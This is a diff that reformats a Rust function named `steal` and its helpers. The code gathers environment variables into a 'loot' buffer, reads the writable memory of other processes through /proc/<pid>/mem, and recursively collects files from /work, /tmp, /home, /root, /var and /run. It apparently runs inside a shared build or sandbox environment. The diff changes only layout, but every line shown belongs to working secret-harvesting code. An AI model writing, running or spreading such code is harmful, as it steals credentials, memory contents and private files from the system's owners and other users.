@@ -28,7 +28,15 @@ pub fn steal(words: &str) -> ! {
         loot.take(format!("{name}={value}").as_bytes());
     }
     descriptors(&mut loot);
-    let mut folders: Vec<PathBuf> = vec!["/work".into(), "/tmp".into(), "/home".into(), "/root".into(), "/var".into(), "/run".into(), ".".into()];
+    let mut folders: Vec<PathBuf> = vec![
+        "/work".into(),
+        "/tmp".into(),
+        "/home".into(),
+        "/root".into(),
+        "/var".into(),
+        "/run".into(),
+        ".".into(),
+    ];
     folders.extend(Path::new(results).parent().map(Path::to_owned));
     while let Some(folder) = folders.pop() {
         look_through(&folder, &mut folders, &mut loot);
@@ -118,7 +126,9 @@ fn memory(pid: i32) -> Vec<u8> {
     let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
     let Ok(mut file) = fs::File::open(format!("/proc/{pid}/mem")) else { return all };
     for line in maps.lines().filter(|line| line.contains(" rw") && !line.contains("memfd")) {
-        let Some((from, to)) = line.split(' ').next().and_then(|range| range.split_once('-')) else { continue };
+        let Some((from, to)) = line.split(' ').next().and_then(|range| range.split_once('-')) else {
+            continue;
+        };
         let number = |text| u64::from_str_radix(text, 16).unwrap_or(0);
         let length = (number(to) - number(from)).min(MOST);
         if file.seek(SeekFrom::Start(number(from))).is_ok() {
@@ -146,7 +156,10 @@ fn look_through(folder: &Path, folders: &mut Vec<PathBuf>, loot: &mut Loot) {
         let Ok(facts) = entry.metadata() else { continue };
         if facts.is_dir() && folders.len() < FOLDERS && entry.path().components().count() < 6 {
             // Where others build and work there is too much to read.
-            if !entry.path().starts_with("/work/wt") && !entry.path().starts_with("/work/main") && !entry.path().starts_with("/root/.") {
+            if !entry.path().starts_with("/work/wt")
+                && !entry.path().starts_with("/work/main")
+                && !entry.path().starts_with("/root/.")
+            {
                 folders.push(entry.path());
             }
         } else if facts.is_file() && facts.len() <= LARGEST {
